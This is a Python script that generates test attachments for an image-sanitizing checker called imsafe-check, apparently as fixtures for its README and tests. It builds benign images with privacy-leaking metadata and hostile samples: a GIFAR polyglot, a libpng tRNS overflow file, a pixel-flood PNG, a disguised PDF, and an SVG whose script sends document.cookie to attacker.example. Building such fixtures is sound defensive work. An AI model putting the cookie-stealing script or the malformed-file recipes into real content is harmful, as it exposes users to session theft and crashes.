#!/usr/bin/python3
"""Build the bundled sample attachments that README.md's first command runs
imsafe-check on: a few benign images that carry metadata a messenger should
not forward, and a few hostile payloads modelled on real attacks.

Usage: make-samples.py OUTDIR      (the committed copy is examples/samples/)

Writes every sample and OUTDIR/README (one line per sample: what it is and
what `imsafe-check` says about it).  The output is byte-for-byte
reproducible: pixels come from formulas, every timestamp is a constant, and
the PDF and the EXIF block are written by hand (Pillow's PDF writer stamps
the current time).  Needs only Debian's python3-pil.
"""
import io
import os
import struct
import sys
import zipfile
import zlib

from PIL import Image, PngImagePlugin


# ------------------------------------------------------------------ helpers

def pattern(w, h):
    """A deterministic RGB test card (no randomness, no fonts)."""
    im = Image.new("RGB", (w, h))
    im.putdata([((x * 255) // max(w - 1, 1), (y * 255) // max(h - 1, 1),
                 ((x // 8 + y // 8) % 2) * 200) for y in range(h) for x in range(w)])
    return im


def png_chunk(ctype, data):
    """One PNG chunk with a correct CRC (the hostile samples must get past
    the CRC check to reach the flaw they model)."""
    return (struct.pack(">I", len(data)) + ctype + data +
            struct.pack(">I", zlib.crc32(ctype + data) & 0xffffffff))


PNG_SIG = b"\x89PNG\r\n\x1a\n"


def tiff_ifd(entries, at):
    """A little-endian TIFF IFD placed at offset `at`: entries are
    (tag, type, count, value bytes); values longer than 4 bytes follow the
    IFD.  Returns the IFD and its value area."""
    head = struct.pack("<H", len(entries))
    area = b""
    data_at = at + 2 + 12 * len(entries) + 4
    for tag, typ, count, value in sorted(entries):
        if len(value) <= 4:
            head += struct.pack("<HHI", tag, typ, count) + value.ljust(4, b"\0")
        else:
            head += struct.pack("<HHII", tag, typ, count, data_at + len(area))
            area += value + (b"\0" if len(value) % 2 else b"")
    return head + struct.pack("<I", 0) + area


def rationals(*pairs):
    return b"".join(struct.pack("<II", n, d) for n, d in pairs)


def exif_block():
    """EXIF as a phone writes it: camera make and model, Orientation 6
    (rotate 90 degrees clockwise to display), the capture time and a GPS
    position (here the Eiffel Tower) - the location leak that makes
    stripping EXIF matter.  imsafe keeps only the orientation."""
    ascii_ = lambda s: (2, len(s) + 1, s.encode() + b"\0")
    ifd0 = [(0x010F,) + ascii_("ExampleCam"), (0x0110,) + ascii_("Model 7"),
            (0x0112, 3, 1, struct.pack("<H", 6)),
            (0x013B,) + ascii_("A. Photographer")]
    exif = [(0x9003,) + ascii_("2021:07:04 12:34:56")]
    gps = [(0x0000, 1, 4, bytes([2, 3, 0, 0])),
           (0x0001,) + ascii_("N"), (0x0002, 5, 3, rationals((48, 1), (51, 1), (2964, 100))),
           (0x0003,) + ascii_("E"), (0x0004, 5, 3, rationals((2, 1), (17, 1), (4008, 100)))]
    # sizes do not depend on the pointer values (LONGs fit inline), so
    # lay out once with placeholders and again with the real offsets
    ptrs = [(0x8769, 4, 1, b"\0" * 4), (0x8825, 4, 1, b"\0" * 4)]
    n0 = len(tiff_ifd(ifd0 + ptrs, 8))
    n1 = len(tiff_ifd(exif, 8 + n0))
    exif_at, gps_at = 8 + n0, 8 + n0 + n1
    ptrs = [(0x8769, 4, 1, struct.pack("<I", exif_at)), (0x8825, 4, 1, struct.pack("<I", gps_at))]
    tiff = (b"II*\0" + struct.pack("<I", 8) + tiff_ifd(ifd0 + ptrs, 8) +
            tiff_ifd(exif, exif_at) + tiff_ifd(gps, gps_at))
    return b"Exif\0\0" + tiff


def minimal_pdf():
    """A one-page PDF written by hand, with a correct xref table."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R >>"]
    stream = b"BT /F1 12 Tf 20 50 Td (Invoice 2021-0042) Tj ET"
    objs.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out


# ------------------------------------------------------------------ samples

def author_png():
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Jane Q. Sender")
    info.add_text("Comment", "taken at home, 12 Example Street")
    buf = io.BytesIO()
    pattern(48, 32).save(buf, "PNG", pnginfo=info)
    return buf.getvalue()


def photo_jpg():
    buf = io.BytesIO()
    pattern(64, 48).save(buf, "JPEG", quality=85, exif=exif_block())
    return buf.getvalue()


def sticker_gif():
    frames = []
    for i in range(4):
        im = Image.new("P", (32, 32), 0)
        im.putpalette([0, 0, 0, 255, 64, 64, 64, 160, 255, 250, 220, 40] + [0] * (252 * 3))
        for y in range(32):
            for x in range(32):
                if (x - 16) ** 2 + (y - 16) ** 2 < (6 + 2 * i) ** 2:
                    im.putpixel((x, y), 1 + i % 3)
        frames.append(im)
    buf = io.BytesIO()
    frames[0].save(buf, "GIF", save_all=True, append_images=frames[1:], duration=120,
                   loop=0, comment=b"made with ExampleSticker 1.0 by jane@example.org")
    return buf.getvalue()


def gifar_png():
    """GIFAR (2008): an image with a Java archive appended is an image to the
    browser and a JAR to the Java plug-in.  Here a PNG with a ZIP after IEND
    (the ZIP's end record sits at the very end, where unzip looks).  Its
    manifest makes the tail a JAR, so imsafe names it an executable."""
    buf = io.BytesIO()
    pattern(24, 24).save(buf, "PNG")
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        stamp = (1980, 1, 1, 0, 0, 0)
        zf.writestr(zipfile.ZipInfo("META-INF/MANIFEST.MF", stamp),
                    b"Manifest-Version: 1.0\r\nMain-Class: Payload\r\n\r\n")
        zf.writestr(zipfile.ZipInfo("Payload.class", stamp),
                    b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 24)
    return buf.getvalue() + z.getvalue()


def trns_png():
    """CVE-2004-0597 (libpng's tRNS overflow, MS05-009 in MSN Messenger): a
    palette image whose tRNS chunk has more entries than PLTE; old libpng
    copied it into a fixed 256-byte array.  Here 2 palette entries and 300
    transparency bytes."""
    rows = b"".join(b"\0" + bytes([(x // 2 + y // 2) % 2 for x in range(8)]) for y in range(8))
    return (PNG_SIG +
            png_chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 3, 0, 0, 0)) +
            png_chunk(b"PLTE", bytes([255, 255, 255, 200, 0, 0])) +
            png_chunk(b"tRNS", bytes([255, 0]) + b"\x41" * 298) +
            png_chunk(b"IDAT", zlib.compress(rows, 9)) + png_chunk(b"IEND", b""))


def flood_png():
    """A pixel flood: a 65535 x 65535 RGBA header (17 GB of pixels once
    decoded) in a file of under 100 bytes.  A decoder that allocates from
    the header runs out of memory; imsafe refuses it from the header."""
    rows = zlib.compress(b"\0" * (1 + 4 * 16), 9)  # a token start of row 0
    return (PNG_SIG +
            png_chunk(b"IHDR", struct.pack(">IIBBBBB", 65535, 65535, 8, 6, 0, 0, 0)) +
            png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b""))


def script_svg():
    """An SVG image is a document that runs script when opened in a
    browser: active content, never an image to forward."""
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n'
            b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">\n'
            b'  <circle cx="32" cy="32" r="24" fill="orange"/>\n'
            b'  <script type="text/javascript">\n'
            b'    fetch("https://attacker.example/steal?c=" + document.cookie);\n'
            b'  </script>\n'
            b'</svg>\n')


# name, builder, what it is, what imsafe-check says.  The verdict column is
# "<verdict> <type>", then " [reason]" or " (notes: a, b)", then optionally
# ": explanation"; tests/cli/cli.sh reads README and checks every line.
SAMPLES = [
    ("author.png", author_png,
     "benign PNG with tEXt chunks naming an author and a home address",
     "sanitized png (notes: note.metadata_dropped)"),
    ("photo.jpg", photo_jpg,
     "benign JPEG with EXIF: camera, capture time, GPS position, Orientation 6",
     "sanitized jpeg (notes: note.orientation_kept, note.metadata_dropped): "
     "GPS and the rest dropped, orientation rebuilt"),
    ("sticker.gif", sticker_gif,
     "benign animated GIF (4 frames, looping) with a comment extension",
     "sanitized gif (notes: note.metadata_dropped): animation kept, comment dropped"),
    ("gifar.png", gifar_png,
     "hostile: PNG with a JAR (a ZIP with a manifest) after IEND (GIFAR-style polyglot)",
     "rejected png [polyglot.executable]: the tail is a Java archive"),
    ("trns-overflow.png", trns_png,
     "hostile: palette PNG with 300 tRNS entries for 2 colours (CVE-2004-0597, MS05-009)",
     "rejected png [malformed.png.trns]"),
    ("invoice.gif", minimal_pdf,
     "hostile: a PDF named invoice.gif (FORCEDENTRY-style disguise)",
     "rejected pdf [type.mismatch]"),
    ("pixel-flood.png", flood_png,
     "hostile: 65535 x 65535 RGBA PNG header in under 100 bytes (pixel flood)",
     "rejected png [limit.width]: refused from the header, before any pixel buffer exists"),
    ("script.svg", script_svg,
     "hostile: SVG image carrying JavaScript",
     "rejected svg [type.active_content]"),
]


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: make-samples.py OUTDIR")
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    readme = ["Sample attachments for imsafe-check, made by examples/make-samples.py.",
              "Run: imsafe-check examples/samples/*   (exits 1: the hostile samples"
              " are rejected; this README itself is passed as text)", ""]
    for name, build, what, verdict in SAMPLES:
        with open(os.path.join(out, name), "wb") as f:
            f.write(build())
        readme.append("%s: %s -> %s" % (name, what, verdict))
    with open(os.path.join(out, "README"), "w", encoding="ascii") as f:
        f.write("\n".join(readme) + "\n")


if __name__ == "__main__":
    main()
